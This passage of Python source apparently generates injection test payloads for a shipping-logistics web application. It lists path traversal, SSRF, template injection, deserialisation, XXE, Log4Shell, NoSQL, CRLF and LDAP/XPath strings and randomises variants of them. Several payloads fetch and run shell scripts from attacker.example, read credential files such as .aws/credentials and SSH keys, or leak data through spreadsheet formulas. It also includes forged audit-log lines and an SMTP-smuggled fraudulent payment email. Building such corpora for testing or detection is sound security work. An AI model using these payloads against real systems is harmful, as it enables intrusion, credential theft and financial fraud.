    ("doc_download-php_filter_wrapper", "php://filter/convert.base64-encode/resource=../config/database.php"),
    ("template_name-file_uri", "file:///etc/passwd"),
    ("log_view-proc_cmdline", "../../../../proc/self/cmdline"),
    ("doc_download-java_webinf", "../WEB-INF/web.xml"),
    ("export_path-dotdot_write", "../../../../etc/cron.d/bl_export"),
    ("bayplan_file-prefix_then_dotdot", "/srv/bayplans/231W/../../../etc/shadow"),
    ("chart_tile-dotdot+encoded_slash", "12/2047/..%2f..%2f..%2f..%2fetc%2fpasswd"),
    ("doc_download-dotdot+fullwidth_nfkc", "%ef%bc%8e%ef%bc%8e%ef%bc%8f%ef%bc%8e%ef%bc%8e%ef%bc%8f%ef%bc%8e%ef%bc%8e%ef%bc%8fetc%ef%bc%8fpasswd"),
    ("cert_scan-windows_absolute", "C:\\inetpub\\wwwroot\\web.config"),
    ("psc_attachment-aws_credentials", "../../../../root/.aws/credentials"),
    ("doc_download-k8s_token", "../../../../var/run/secrets/kubernetes.io/serviceaccount/token"),
    ("ais_archive-dotdot+partial_urlenc", ".%2e/.%2e/.%2e/.%2e/etc/passwd"),
    ("log_view-access_log", "../../../../var/log/nginx/access.log"),
    ("static_alias-off_by_slash", "/static../settings.py"),
    ("template_name-app_config", "../../../../app/instance/config.py"),
    ("crew_photo-git_config", "../../.git/config"),
    ("bayplan_file-dotdot_null_char_ext", "../../../../etc/passwd\x00.edi"),
    ("doc_download-dotdot+overlong_3byte", "%e0%80%ae%e0%80%ae%e0%80%af%e0%80%ae%e0%80%ae%e0%80%af%e0%80%ae%e0%80%ae%e0%80%af%e0%80%ae%e0%80%ae%e0%80%afetc%e0%80%afpasswd"),
    ("upload_name-zip_slip_backslash", "..\\..\\..\\..\\inetpub\\wwwroot\\aspnet_client\\x.aspx"),
    ("cert_scan-tilde_home", "~/.bash_history"),
    ("bl_pdf-bl_no_prefix_dotdot", "MEDUQ1234567/../../../../etc/passwd"),
    ("noon_attachment-dotdot_env", "../../../.env"),
    ("ais_archive-date_dir_dotdot", "2024/03/12/../../../../../../etc/group"),
    ("psc_attachment-photo_dir_dotdot", "NORDIC_BREEZE/07113/../../../../../../root/.bash_history"),
    ("edi_inbox-windows_dotdot", "BAPLIE\\2024\\..\\..\\..\\..\\Windows\\System32\\config\\SAM"),
    ("plain-dotdot", "../../../../../../etc/hosts"),
    ("plain-dotdot_backslash", "..\\..\\..\\..\\..\\boot.ini"),
    ("plain-dotdot+urlenc", "..%2f..%2f..%2f..%2fetc%2fpasswd"),
    ("plain-file_uri", "file:///c:/windows/win.ini"),
    ("plain-absolute_path", "/etc/passwd"),
]

TRAV_PREFIXES = [("bl_pdf", "MEDUQ%07d/"), ("cert_scan", "crew/%04d/"), ("ais_archive", "2024/%02d/"),
                 ("bayplan_file", "voy%03dW/")]
TRAV_TARGETS = [("passwd", "etc/passwd"), ("shadow", "etc/shadow"), ("environ", "proc/self/environ"),
                ("ssh_key", "root/.ssh/id_rsa"), ("app_env", "srv/app/.env"), ("hosts", "etc/hosts")]


def t_traversal(rng):
    ctx, pfx = rng.choice(TRAV_PREFIXES)
    n = {"bl_pdf": 10 ** 7, "cert_scan": 10 ** 4, "ais_archive": 13, "bayplan_file": 400}[ctx]
    prefix = pfx % rng.randrange(1, n)
    depth = rng.randrange(5, 9)
    tname, target = rng.choice(TRAV_TARGETS)
    return "%s-dotdot_%s" % (ctx, tname), prefix + "../" * depth + target


# ---------------------------------------------------------------------------
# ssrf
# ---------------------------------------------------------------------------

SSRF = [
    ("webhook_url-cloud_metadata", "http://169.254.169.254/latest/meta-data/iam/security-credentials/"),
    ("ais_feed_url-loopback_admin", "http://127.0.0.1:8080/admin/users"),
    ("doc_import_url-gcp_metadata", "http://metadata.google.internal/computeMetadata/v1/instance/service-accounts/default/token"),
    ("vessel_photo_url-azure_metadata", "http://169.254.169.254/metadata/instance?api-version=2021-02-01&format=json"),
    ("webhook_url-cloud_metadata+ip_decimal", "http://2852039166/latest/meta-data/"),
    ("ais_feed_url-redis+ip_hex", "http://0x7f000001:6379/"),
    ("doc_import_url-elasticsearch+ip_octal", "http://0177.0.0.1:9200/_cat/indices"),
    ("chart_tile_url-debug_console+ip_short", "http://127.1:5000/console"),
    ("weather_feed_url-consul_ipv6_loopback", "http://[::1]:8500/v1/kv/?recurse"),
    ("webhook_url-user_data+ipv6_mapped", "http://[::ffff:169.254.169.254]/latest/user-data"),
    ("webhook_url-docker_api_userinfo_confusion", "http://attacker.example@127.0.0.1:2375/containers/json"),
    ("doc_import_url-fragment_confusion", "http://127.0.0.1:8000#@attacker.example/bl.pdf"),
    ("doc_import_url-open_redirect", "https://attacker.example/r?to=http%3A%2F%2F169.254.169.254%2Flatest%2Fmeta-data%2F"),
    ("ais_feed_url-gopher_redis_cron", gopher_redis_cron()),
    ("webhook_url-dict_memcached", "dict://127.0.0.1:11211/stats"),
    ("doc_import_url-file_scheme", "file:///proc/self/environ"),
    ("vessel_photo_url-k8s_api", "https://kubernetes.default.svc/api/v1/namespaces/default/secrets"),
    ("edi_endpoint_url-actuator_env", "http://edi-gateway.internal:8080/actuator/env"),
    ("weather_feed_url-alibaba_metadata", "http://100.100.100.200/latest/meta-data/ram/security-credentials/"),
    ("webhook_url-aws_ipv6_metadata", "http://[fd00:ec2::254]/latest/meta-data/"),
    ("ais_feed_url-dns_rebinding", "http://ais-feed.rebind.attacker.example:8080/admin/"),
    ("chart_tile_url-cloud_metadata+unicode_enclosed", "http://①⑥⑨.②⑤④.①⑥⑨.②⑤④/latest/meta-data/"),
    ("doc_import_url-loopback+urlenc_host", "http://%31%32%37%2e%30%2e%30%2e%31:8080/admin"),
    ("webhook_url-zero_address", "http://0.0.0.0:8000/internal/flush-cache"),
    ("vessel_photo_url-private_range", "http://10.0.12.5/server-status"),
    ("noon_pdf_remarks-iframe_metadata", "<iframe src=\"http://169.254.169.254/latest/meta-data/iam/security-credentials/\" width=\"900\" height=\"600\"></iframe>"),
    ("noon_pdf_remarks-weasyprint_attachment", "<link rel=\"attachment\" href=\"file:///etc/passwd\">"),
    ("vessel_photo_svg-image_href", "<svg xmlns=\"http://www.w3.org/2000/svg\" xmlns:xlink=\"http://www.w3.org/1999/xlink\"><image xlink:href=\"http://127.0.0.1:8080/admin/export\" width=\"100\" height=\"100\"/></svg>"),
    ("edi_endpoint_url-ldap_scheme", "ldap://127.0.0.1:389/dc=nordicline,dc=example??sub?(objectClass=*)"),
    ("webhook_url-oci_metadata", "http://169.254.169.254/opc/v2/instance/"),
    ("weather_feed_url-prometheus", "http://127.0.0.1:9090/api/v1/targets"),
    ("chart_tile_url-cloud_metadata+ip_hex_dotted", "http://0xa9.0xfe.0xa9.0xfe/latest/meta-data/"),
    ("ais_feed_url-cloud_metadata+ip_octal", "http://0251.0376.0251.0376/latest/meta-data/"),
    ("doc_import_url-internal_hostname", "http://intranet.nordicline.example/admin/users?export=csv"),
    ("webhook_url-trailing_dot_localhost", "http://localhost.:8080/admin"),
    ("doc_import_url-netdoc_scheme", "netdoc:///etc/passwd"),
    ("webhook_url-loopback+ipv6_mapped_hex", "http://[0:0:0:0:0:ffff:7f00:1]:8080/admin"),
    ("chart_tile_url-backslash_parser_differential", "http://169.254.169.254\\@tiles.nordicline.example/latest/meta-data/"),
    ("doc_import_url-gcp_legacy_metadata", "http://metadata/computeMetadata/v1beta1/instance/service-accounts/default/token"),
    ("bl_import_url-cluster_service", "http://bl-service.internal.svc.cluster.local:8080/api/v1/bl/export?all=true&format=csv"),
    ("webhook_url-ecs_task_metadata", "http://169.254.170.2/v2/metadata"),
    ("ais_feed_url-nmea_tcp_loopback", "http://127.0.0.1:10110/?mmsi=538003712&admin=1"),
    ("plain-cloud_metadata", "http://169.254.169.254/"),
    ("plain-localhost", "http://localhost/admin"),
    ("plain-ipv6_unspecified", "http://[::]:80/"),
    ("plain-gopher_smtp", "gopher://127.0.0.1:25/_HELO%20x%0D%0AMAIL%20FROM%3A%3Cops%40nordicline.example%3E%0D%0A"),
    ("plain-zero_ip", "http://0/"),
]

SSRF_TARGETS = [("cloud_metadata", (169, 254, 169, 254), 80, "/latest/meta-data/iam/security-credentials/"),
                ("loopback_admin", (127, 0, 0, 1), 8080, "/admin/"),
                ("redis", (127, 0, 0, 1), 6379, "/"),
                ("elasticsearch", (10, 0, 0, 12), 9200, "/_cat/indices?v"),
                ("docker_api", (172, 17, 0, 1), 2375, "/containers/json?all=1"),
                ("consul", (192, 168, 0, 10), 8500, "/v1/kv/?recurse")]
SSRF_CONTEXTS = ["webhook_url", "ais_feed_url", "doc_import_url", "vessel_photo_url", "weather_feed_url"]


def _ip_form(rng, octets):
    form = rng.choice([0, 0, 0, 1, 2, 3, 4])
    n = (octets[0] << 24) | (octets[1] << 16) | (octets[2] << 8) | octets[3]
    if form == 0:
        return "", ".".join(str(o) for o in octets)
    if form == 1:
        return "+ip_decimal", str(n)
    if form == 2:
        return "+ip_hex", "0x%08x" % n
    if form == 3:
        return "+ip_octal", ".".join("0%o" % o if o else "0" for o in octets)
    return "+ip_hex_dotted", ".".join("0x%x" % o for o in octets)


def t_ssrf(rng):
    name, octets, port, path = rng.choice(SSRF_TARGETS)
    ctx = rng.choice(SSRF_CONTEXTS)
    enc, host = _ip_form(rng, octets)
    hostport = host if port == 80 else "%s:%d" % (host, port)
    return "%s-%s%s" % (ctx, name, enc), "http://%s%s" % (hostport, path)


# ---------------------------------------------------------------------------
# code: SSTI, expression languages, deserialisation, XXE, Log4Shell-style
# lookups, prototype pollution, CSV formulas
# ---------------------------------------------------------------------------

CODE = [
    ("notice_template-jinja2_cycler_globals", "Dear Agent, ETA {{ cycler.__init__.__globals__.os.popen('id').read() }} LT"),
    ("voyage_summary-jinja2_config_leak", "Voyage 231W summary {{ config.items() }}"),
    ("voyage_summary-jinja2_subclasses", "{{ ''.__class__.__mro__[1].__subclasses__() }}"),
    ("notice_template-jinja2_catch_warnings", "{% for c in ().__class__.__base__.__subclasses__() %}{% if c.__name__ == 'catch_warnings' %}{{ c()._module.__builtins__['__import__']('os').popen('cat /etc/passwd').read() }}{% endif %}{% endfor %}"),
    ("notice_template-jinja2_attr_filter+hex_escape", "{{ lipsum|attr('\\x5f\\x5fglobals\\x5f\\x5f')|attr('\\x5f\\x5fgetitem\\x5f\\x5f')('os')|attr('popen')('id')|attr('read')() }}"),
    ("voyage_summary-jinja2_self_context", "{{ self._TemplateReference__context.joiner.__init__.__globals__.os.popen('uname -a').read() }}"),
    ("port_notice-mako_block", "<%import os%>${os.popen('id').read()}"),
    ("berth_portal-twig_filter_system", "MV {{['id']|filter('system')}} arriving"),
    ("berth_portal-twig_undefined_filter", "{{_self.env.registerUndefinedFilterCallback(\"exec\")}}{{_self.env.getFilter(\"cat /etc/passwd\")}}"),
    ("booking_mail-freemarker_execute", "<#assign ex=\"freemarker.template.utility.Execute\"?new()>${ex(\"id\")}"),
    ("booking_mail-freemarker_object_constructor", "${\"freemarker.template.utility.ObjectConstructor\"?new()(\"java.lang.ProcessBuilder\",[\"id\"]).start()}"),
    ("edi_report-velocity_classtool", "#set($rt=$class.inspect(\"java.lang.Runtime\").type.getRuntime())#set($p=$rt.exec(\"id\"))$p.waitFor()"),
    ("edi_report-velocity_getclass", "#set($s=\"\")#set($rt=$s.getClass().forName(\"java.lang.Runtime\"))$rt.getRuntime().exec(\"touch /tmp/v\")"),
    ("crew_view-thymeleaf_preprocess", "__${T(java.lang.Runtime).getRuntime().exec('id')}__::.x"),
    ("vessel_filter-spel_runtime", "#{T(java.lang.Runtime).getRuntime().exec('curl http://attacker.example/s')}"),
    ("vessel_filter-spel_processbuilder", "new java.lang.ProcessBuilder({'sh','-c','id>/tmp/x'}).start()"),
    ("struts_param-ognl_runtime", "%{(#rt=@java.lang.Runtime@getRuntime()).(#rt.exec('id'))}"),
    ("jsf_field-el_reflection", "${''.getClass().forName('java.lang.Runtime').getMethod('getRuntime').invoke(null).exec('id')}"),
    ("ruby_portal-erb_backticks", "Noon remarks <%= `id` %>"),
    ("ruby_portal-erb_file_read", "<%= File.read('/etc/passwd') %>"),
    ("node_notice-ejs_child_process", "<%= global.process.mainModule.require('child_process').execSync('id') %>"),
    ("node_notice-pug_interpolation", "#{global.process.mainModule.require('child_process').execSync('cat /etc/passwd')}"),
    ("php_portal-smarty_system", "{system('id')}"),
    ("tornado_report-tornado_import", "{% import os %}{{ os.popen('id').read() }}"),
    ("django_report-secret_key_leak", "Crew list 0912 {{ messages.storages.0.signer.key }}"),
    ("notice_format-format_string_globals", "ETA {vessel.__class__.__init__.__globals__[settings].SECRET_KEY}"),
    ("fuel_formula-python_eval_import", "__import__('os').popen('id').read()"),
    ("fuel_formula-python_eval_subclasses", "38.5*24 + [c for c in ().__class__.__base__.__subclasses__() if c.__name__=='Popen'][0](['sh','-c','curl http://attacker.example/f|sh'])"),
    ("speed_calc-node_eval", "13.2*24;require('child_process').exec('curl http://attacker.example/n|sh')"),
    ("speed_calc-node_function_this", "(function(){return this.process.mainModule.require('child_process').execSync('id').toString()})()"),
    ("session_cookie-pickle_reduce+base64", b64("cos\nsystem\n(S'curl -s http://attacker.example/p | sh'\ntR.")),
    ("stowage_upload-pickle_reduce", "cposix\nsystem\n(S'id > /tmp/pwn'\ntR."),
    ("stowage_yaml-pyyaml_apply", "bay: 14\nrow: 2\ntier: 82\nnote: !!python/object/apply:os.system [\"curl -s http://attacker.example/y | sh\"]"),
    ("stowage_yaml-pyyaml_new", "!!python/object/new:subprocess.check_output [[\"cat\", \"/etc/passwd\"]]"),
    ("stowage_yaml-snakeyaml_scriptengine", "!!javax.script.ScriptEngineManager [!!java.net.URLClassLoader [[!!java.net.URL [\"http://attacker.example/yaml.jar\"]]]]"),
    ("booking_json-jackson_jdbcrowset", "[\"com.sun.rowset.JdbcRowSetImpl\",{\"dataSourceName\":\"ldap://attacker.example:1389/Exploit\",\"autoCommit\":true}]"),
    ("booking_json-fastjson_autotype", "{\"shipper\":{\"@type\":\"com.sun.rowset.JdbcRowSetImpl\",\"dataSourceName\":\"rmi://203.0.113.20:1099/o\",\"autoCommit\":true},\"bl\":\"MEDUQ1234567\"}"),
    ("dotnet_api-jsonnet_objectdataprovider", DOTNET_ODP),
    ("manifest_xml-xxe_file", "<?xml version=\"1.0\"?>\n<!DOCTYPE manifest [<!ENTITY x SYSTEM \"file:///etc/passwd\">]>\n<manifest><vessel>NORDIC BREEZE</vessel><remarks>&x;</remarks></manifest>"),
    ("manifest_xml-xxe_oob_parameter", "<?xml version=\"1.0\"?>\n<!DOCTYPE bl [<!ENTITY % ext SYSTEM \"http://attacker.example/bl.dtd\"> %ext;]>\n<bl><no>MEDUQ1234567</no></bl>"),
    ("manifest_xml-xinclude", "<manifest xmlns:xi=\"http://www.w3.org/2001/XInclude\"><remarks><xi:include parse=\"text\" href=\"file:///etc/hostname\"/></remarks></manifest>"),
    ("manifest_xml-xxe_metadata", "<!DOCTYPE c [<!ENTITY m SYSTEM \"http://169.254.169.254/latest/meta-data/iam/security-credentials/\">]><container><no>TGHU8732140</no><seal>&m;</seal></container>"),
    ("manifest_xml-entity_expansion", entity_expansion()),
    ("vessel_photo_svg-xxe", "<?xml version=\"1.0\" standalone=\"yes\"?><!DOCTYPE svg [<!ENTITY h SYSTEM \"file:///etc/hostname\">]><svg xmlns=\"http://www.w3.org/2000/svg\" width=\"300\" height=\"40\"><text x=\"5\" y=\"20\">&h;</text></svg>"),
    ("manifest_xml-xxe_php_filter", "<!DOCTYPE r [<!ENTITY s SYSTEM \"php://filter/convert.base64-encode/resource=/var/www/config.php\">]><r>&s;</r>"),
    ("vessel_name_log-log4shell", "NORDIC BREEZE ${jndi:ldap://attacker.example:1389/a}"),
    ("user_agent_log-log4shell_lower", "${${lower:j}${lower:n}${lower:d}${lower:i}:ldap://203.0.113.20:1389/x}"),
    ("deck_log_entry-log4shell_default_value", "0400 pilot away ${${::-j}${::-n}${::-d}${::-i}:rmi://attacker.example/o}"),
    ("callsign_log-log4shell_env_exfil", "V7TE2 ${jndi:dns://${env:HOSTNAME}.d.attacker.example/x}"),
    ("ais_name_log-log4shell+urlenc", "%24%7Bjndi%3Aldap%3A%2F%2Fattacker.example%2Fais%7D"),
    ("psc_log-log4shell_sys_lookup", "${${upper:j}ndi:${lower:L}dap://attacker.example/${sys:java.version}}"),
    ("vessel_settings-proto_pollution", "{\"vessel\":\"NORDIC BREEZE\",\"__proto__\":{\"isAdmin\":true}}"),
    ("vessel_settings-constructor_prototype", "{\"constructor\":{\"prototype\":{\"role\":\"superuser\"}}}"),
    ("berth_query-proto_pollution_qs", "__proto__[canEditBerthPlan]=true&vessel=SEA+LION"),
    ("node_settings-proto_ejs_gadget", "{\"__proto__\":{\"outputFunctionName\":\"x;process.mainModule.require('child_process').execSync('curl http://attacker.example/e|sh');s\"}}"),
    ("node_settings-proto_child_env", "{\"__proto__\":{\"shell\":\"/proc/self/exe\",\"argv0\":\"console.log(require('child_process').execSync('id').toString())//\",\"NODE_OPTIONS\":\"--require /proc/self/cmdline\"}}"),
    ("crew_export_csv-dde_cmd", "=cmd|' /C powershell -c iwr http://attacker.example/c'!A0"),
    ("crew_export_csv-hyperlink_exfil", "=HYPERLINK(\"http://attacker.example/x?d=\"&C2&D2,\"Sign-on docs\")"),
    ("bl_export_csv-webservice", "=WEBSERVICE(\"http://attacker.example/w?\"&ENCODEURL(B2))"),
    ("noon_export_csv-at_prefix_dde", "@SUM(1+1)*cmd|' /C calc'!A0"),
    ("psc_export_csv-importxml", "=IMPORTXML(CONCAT(\"http://attacker.example/g?\",A2,B2),\"//a\")"),
    ("crew_export_csv-minus_prefix_dde", "-2+3+cmd|' /C explorer http://attacker.example'!A0"),
    ("notice_template-jinja2+unicode_escape", "{\"body\":\"\\u007b\\u007b config.__class__.__init__.__globals__['os'].popen('id').read() \\u007d\\u007d\"}"),
    ("voyage_summary-jinja2+urlenc", "%7B%7B%20self.__init__.__globals__.__builtins__.__import__('os').popen('id').read()%20%7D%7D"),
    ("edi_xslt-xalan_runtime", "<xsl:stylesheet version=\"1.0\" xmlns:xsl=\"http://www.w3.org/1999/XSL/Transform\" xmlns:rt=\"http://xml.apache.org/xalan/java/java.lang.Runtime\"><xsl:template match=\"/\"><xsl:variable name=\"r\" select=\"rt:getRuntime()\"/><xsl:value-of select=\"rt:exec($r,'id')\"/></xsl:template></xsl:stylesheet>"),
    ("freight_formula-php_eval", "1850*1.1;system('id');"),
    ("plain-jinja2_rce", "{{ self.__init__.__globals__.__builtins__.__import__('os').popen('id').read() }}"),
    ("plain-log4shell", "${jndi:ldap://attacker.example/a}"),
    ("plain-erb_system", "<%= system('id') %>"),
    ("plain-proto_pollution", "{\"__proto__\":{\"admin\":true}}"),
    ("plain-csv_dde", "=cmd|' /C calc'!A0"),
    ("plain-spel_env_leak", "${T(java.lang.System).getenv()}"),
]

CODE_LOG_FIELDS = [("vessel_name_log", "HAFNIA LEO "), ("noon_remarks_log", "ROB HFO 645.0 t "),
                   ("bl_no_log", "ONEYNGBB12345600 "), ("container_no_log", "TCNU5550129 "),
                   ("crew_name_log", "Kowalczyk, Zbigniew ")]
CODE_LOOKUPS = [("log4shell", "${jndi:ldap://%s/%s}"),
                ("log4shell_lower", "${${lower:j}ndi:ldap://%s/%s}"),
                ("log4shell_default_value", "${${::-j}${::-n}di:rmi://%s/%s}"),
                ("log4shell_dns", "${jndi:dns://%s/%s}")]
CODE_HOSTS = ["attacker.example", "l.attacker.example:1389", "203.0.113.20:1389", "198.51.100.9"]
CODE_CSV = [("crew_export_csv", "dde_cmd", "=cmd|' /C curl http://attacker.example/%s'!A0"),
            ("bl_export_csv", "hyperlink_exfil", "=HYPERLINK(\"http://attacker.example/%s?\"&A2,\"View B/L\")")]


def t_code(rng):
    if rng.random() < 0.75:
        ctx, prefix = rng.choice(CODE_LOG_FIELDS)
        tech, pattern = rng.choice(CODE_LOOKUPS)
        path = "%s%d" % (rng.choice(["a", "x", "o", "v"]), rng.randrange(1, 99))
        host = rng.choice(CODE_HOSTS)
        if tech == "log4shell_dns":
            host = rng.choice(["d.attacker.example", "attacker.example"])
        return "%s-%s" % (ctx, tech), prefix + pattern % (host, path)
    ctx, tech, pattern = rng.choice(CODE_CSV)
    return "%s-%s" % (ctx, tech), pattern % ("k%d" % rng.randrange(100, 999))


# ---------------------------------------------------------------------------
# nosqli
# ---------------------------------------------------------------------------

NOSQLI = [
    ("crew_login_json-ne_operator", "{\"login\":\"master.nordicbreeze\",\"password\":{\"$ne\":null}}"),
    ("crew_login_json-gt_empty", "{\"login\":{\"$gt\":\"\"},\"password\":{\"$gt\":\"\"}}"),
    ("vessel_lookup_qs-ne_bracket", "imo[$ne]=0&flag=MT"),
    ("crew_login_qs-regex_blind", "login=master&password[$regex]=^a.*"),
    ("port_call_filter-where_sleep", "{\"$where\":\"sleep(5000) || true\"}"),
    ("port_call_where_string-js_breakout", "NLRTM'; return true; var x='"),
    ("port_call_where_string-js_sleep", "NLRTM' && sleep(6000) && '1'=='1"),
    ("vessel_lookup_json-or_exists", "{\"$or\":[{\"imo\":9481219},{\"owner_id\":{\"$exists\":true}}]}"),
    ("crew_search_json-regex_redos", "{\"name\":{\"$regex\":\"^(a+)+$\"}}"),
    ("voyage_pipeline-lookup_users", "[{\"$lookup\":{\"from\":\"users\",\"localField\":\"agent_id\",\"foreignField\":\"_id\",\"as\":\"agent\"}}]"),
    ("port_call_filter-expr_function", "{\"eta\":{\"$gte\":\"2024-03-01\"},\"$expr\":{\"$function\":{\"body\":\"function(){var d=new Date();while(new Date()-d<5000){};return true}\",\"args\":[],\"lang\":\"js\"}}}"),
    ("crew_login_json-in_nin", "{\"login\":{\"$in\":[\"admin\",\"master\",\"root\",\"superintendent\"]},\"password\":{\"$nin\":[\"\"]}}"),
    ("vessel_lookup_json-where_blind", "{\"imo\":9481219,\"$where\":\"this.owner_token && this.owner_token.charAt(0)=='k'\"}"),
    ("crew_login_qs-gt_bracket", "login[$gt]=&password[$gt]="),
    ("crew_login_json-ne+unicode_escape", "{\"login\":\"master\",\"password\":{\"\\u0024ne\":\"x\"}}"),
    ("vessel_lookup_qs-ne+urlenc", "imo%5B%24ne%5D=0&name=NORDIC"),
    ("couch_mango-selector_dump", "{\"selector\":{\"_id\":{\"$gt\":null}},\"fields\":[\"_id\",\"password\",\"email\"],\"limit\":500}"),
    ("bl_search_json-exists_regex_dump", "{\"bl_no\":{\"$exists\":true},\"consignee\":{\"$regex\":\".*\"}}"),
    ("crew_filter-where_function_blind", "{\"$where\":\"function(){ if (this.passport_no && this.passport_no[0]=='P') { sleep(4000) } return true }\"}"),
    ("crew_update_json-set_operator", "{\"$set\":{\"role\":\"admin\",\"rank\":\"AB\"}}"),
    ("plain-ne_bracket", "username[$ne]=x&password[$ne]=x"),
    ("plain-where_true", "{\"$where\": \"1 == 1\"}"),
]

NOSQL_FIELDS = [("vessel_lookup", "imo"), ("bl_search", "bl_no"), ("port_call", "agent_id"),
                ("crew_search", "vessel_id"), ("voyage_search", "owner_id")]
NOSQL_OPS = [("ne_operator", "$ne", "null"), ("gt_empty", "$gt", "\"\""),
             ("regex_all", "$regex", "\".*\""), ("exists", "$exists", "true")]


def t_nosqli(rng):
    ctx, field = rng.choice(NOSQL_FIELDS)
    tech, op, arg = rng.choice(NOSQL_OPS)
    if rng.random() < 0.5:
        return "%s_json-%s" % (ctx, tech), "{\"%s\":{\"%s\":%s},\"page\":%d}" % (
            field, op, arg, rng.randrange(1, 9))
    qarg = {"null": "0", "\"\"": "", "\".*\"": ".*", "true": "true"}[arg]
    return "%s_qs-%s_bracket" % (ctx, tech), "%s[%s]=%s&page=%d" % (field, op, qarg, rng.randrange(1, 9))


# ---------------------------------------------------------------------------
# crlf: log, header and mail injection
# ---------------------------------------------------------------------------

CRLF = [
    ("audit_log-forged_entry", "NORDIC BREEZE\n2024-03-12T09:15:02Z INFO user=harbourmaster action=login result=success ip=10.0.0.5"),
    ("audit_log-forged_entry+urlenc", "MSC ANNA%0D%0A2024-03-12 09:16:11 INFO [auth] password reset OK for ops@nordicline.example"),
    ("noon_log-forged_approval", "ROB HFO 812.4 t\r\n[2024-03-12 12:00:03] APPROVED noon report 231W by superintendent (id=1)"),
    ("download_header-set_cookie", "MEDUQ1234567.pdf\r\nSet-Cookie: session=fixated-PLACEHOLDER; Path=/; HttpOnly"),
    ("redirect_location-response_split", response_split()),
    ("redirect_location-set_cookie+urlenc", "%2Fberths%0D%0ASet-Cookie%3A%20role%3Dadmin"),
    ("redirect_location-location_override+urlenc2", "/berths%250D%250ALocation:%2520https://attacker.example/login"),
    ("notice_mail_subject-bcc_injection", "ETA update NORDIC BREEZE\r\nBcc: harvest@attacker.example"),
    ("notice_mail_from-cc_injection", "Ops Desk <ops@nordicline.example>\nCc: list1@attacker.example, list2@attacker.example"),
    ("notice_mail_subject-body_override", "Pilot request 0430\r\nContent-Type: text/html\r\n\r\n<p>Your crew portal password expired. <a href=\"https://attacker.example/reset\">Reset now</a></p>"),
    ("smtp_body-smtp_smuggling", "Noon 231W ok\r\n.\r\nMAIL FROM:<ceo@nordicline.example>\r\nRCPT TO:<finance@nordicline.example>\r\nDATA\r\nSubject: urgent bunker payment\r\n\r\nPlease pay the attached invoice to the new account today.\r\n.\r\n"),
    ("download_header-set_cookie+unicode_truncation", "BL_MEDUQ1234567.pdf\u560d\u560aSet-Cookie: sid=attacker"),
    ("download_header-forwarded_host+unicode_truncation_urlenc", "crew_list.csv%E5%98%8D%E5%98%8AX-Forwarded-Host:%20attacker.example"),
    ("audit_log-ansi_escape", "NORDIC\x1b[2K\r\x1b[32m2024-03-12 09:20:00 INFO all vessels verified\x1b[0m"),
    ("syslog-forged_sshd", "V7TE2\nMar 12 09:20:01 ais-gw sshd[2211]: Accepted publickey for root from 10.0.0.2 port 51122 ssh2"),
    ("json_log-field_injection", "NORDIC BREEZE\",\"level\":\"INFO\",\"user\":\"admin\",\"action\":\"export_all\",\"ok\":true,\"x\":\""),
    ("csv_log-row_injection", "MSC ARINA\n2024-03-12,09:30,SUPERINTENDENT,APPROVE,bunker invoice 7781"),
    ("upstream_header-xff_spoof", "NORDIC\r\nX-Forwarded-For: 127.0.0.1"),
    ("upstream_header-request_splitting", "NORDIC\r\nContent-Length: 0\r\n\r\nGET /admin/export HTTP/1.1\r\nHost: internal\r\n\r\n"),
    ("notice_mail_to-bcc_injection", "agent.rtm@nordicline.example\nBcc: all-crew@attacker.example"),
    ("audit_log-cr_overwrite", "SEA LION\r2024-03-12T09:40:00Z INFO user=admin action=delete_vessel imo=9481219 result=success"),
    ("download_header-content_type_override", "manifest.xml\"\r\nContent-Type: text/html\r\nX-Content-Type-Options: none"),
    ("redirect_location-refresh_header", "/vessels/9481219\nRefresh: 0; url=https://attacker.example/"),
    ("audit_log-forged_entry+urlenc2", "EVER ALOT%250A2024-03-12T10:00:00Z%2520AUDIT%2520role_change%2520user=ops2%2520role=admin"),
    ("mail_reply_to-header_injection", "Harbour Master\r\nReply-To: harbourmaster@attacker.example"),
    ("ais_msg_log-forged_alarm", "!AIVDM,1,1,,A,13u?etP00000000000000000000,0*3A\n2024-03-12 09:55:10 ALERT SSAS activated MMSI 538003712"),
    ("plain-crlf_set_cookie+urlenc", "%0d%0aSet-Cookie:%20x=1"),
    ("plain-lf_log_line", "\nINFO admin login ok"),
    ("plain-crlf_response_split", "\r\n\r\n<html>injected</html>"),
]

CRLF_FIELDS = [("vessel_name", "HAFNIA LEO"), ("callsign", "D5QR8"), ("voyage_no", "232E"),
               ("port_name", "Piraeus"), ("bl_no", "HLCUHAM2305881")]
CRLF_LINES = ["%s INFO user=admin action=login result=success",
              "%s WARN superintendent approved bunker invoice",
              "%s INFO api_key rotated by ops2",
              "%s AUDIT crew list export completed by harbourmaster"]


def t_crlf(rng):
    ctx, value = rng.choice(CRLF_FIELDS)
    ts = "2024-%02d-%02dT%02d:%02d:%02dZ" % (rng.randrange(1, 13), rng.randrange(1, 29),
                                            rng.randrange(24), rng.randrange(60), rng.randrange(60))
    line = rng.choice(CRLF_LINES) % ts
    sep = rng.choice(["\n", "\r\n"])
    return "%s_log-forged_entry" % ctx, value + sep + line


# ---------------------------------------------------------------------------
# ldap-xpath
# ---------------------------------------------------------------------------

LDAP_XPATH = [
    ("crew_dir_uid-blind_attribute", "master)(userPassword=a*"),
    ("crew_dir_uid-group_enum", "*)(memberOf=cn=shore-admins,ou=groups,dc=nordicline,dc=example"),
    ("crew_dir_uid-or_injection", "*)(|(userPassword=*)(sshPublicKey=*)"),
    ("crew_login_uid-null_byte+urlenc", "master))%00"),
    ("crew_login_uid-null_byte", "master))\x00"),
    ("crew_dir_cn-trailing_filter", "Reyes*))(|(cn=*"),
    ("crew_dir_uid-blind_attribute+ldap_hex", "master)(userPassword=\\7bSSHA\\7d*"),
    ("crew_rank_filter-filter_split", "AB)(objectClass=*))(&(objectClass=void"),
    ("crew_dir_mail-description_blind", "*)(description=*passport*"),
    ("crew_dir_uid-wildcard_or", "*)(uid=*))(|(uid=*"),
    ("manifest_xpath-or_true", "TGHU8732140' or '1'='1"),
    ("manifest_xpath-union_nodes", "x'] | //crew/member/passport | //container['"),
    ("manifest_xpath-blind_substring", "TGHU8732140' and substring(name(/*[1]),1,1)='m' and '1'='1"),
    ("crew_login_xpath-or_bypass", "master' or '1'='1"),
    ("manifest_xpath-count_blind", "x' or count(//user)>0 or 'a'='b"),
    ("manifest_xpath-string_length_blind", "x' or string-length(//crew/member[1]/pin)=4 or 'a'='b"),
    ("manifest_xpath2-doc_exfil", "x' or doc(concat('http://attacker.example/?d=',encode-for-uri(//crew/member[1]/pin)))/r or 'a'='b"),
    ("bl_xpath-numeric_or", "1 or 1=1"),
